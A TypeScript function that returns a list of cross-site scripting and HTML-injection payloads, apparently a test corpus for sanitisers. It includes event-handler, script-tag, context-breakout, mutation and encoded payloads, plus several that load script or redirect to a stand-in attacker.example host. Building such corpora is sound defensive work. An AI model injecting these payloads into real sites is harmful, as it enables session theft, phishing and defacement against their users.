/** Texts that are markup where a page takes them for that. */
export function markup(): string[] {
  const elements = [
    'img',
    'svg',
    'video',
    'audio',
    'iframe',
    'object',
    'embed',
    'details',
    'input',
    'body',
    'marquee',
    'math',
  ]
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']
  return [
    ...elements.flatMap((name, at) => [
      `<${name} ${events[at % 6]}=alert(1)>`,
      `"><${name} src=x ${events[(at + 1) % 6]}="alert(1)" autofocus open>`,
      `<${name}/${events[(at + 2) % 6]}=alert\u0060x\u0060//`,
    ]),
    ...['script', 'ScRiPt', 'script\u0000', 'script/x', 'script src=//attacker.example/x.js'].flatMap(
      name => [
        `<${name}>alert(1)</script>`,
        `</${name}><${name}>alert(1)</script>`,
        `<<${name}>alert(1)//<</script>`,
      ],
    ),
    ...[
      'textarea',
      'title',
      'style',
      'noscript',
      'xmp',
      'template',
      'select',
      'plaintext',
      'listing',
    ].flatMap(name => [
      `</${name}><img src=x onerror=alert(1)>`,
      `<${name}><img title="</${name}><img src=x onerror=alert(1)>">`,
    ]),
    '<a href="https://attacker.example/">click</a>',
    '<form action="https://attacker.example/"><button>Go on</button></form>',
    '<base href="https://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<style>@import "https://attacker.example/x.css";body{display:none}</style>',
    '<div style="position:fixed;inset:0;background:red">all yours</div>',
    '<!-- <img src="--><img src=x onerror=alert(1)>">',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><x onload="alert(1)"/>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ]
}
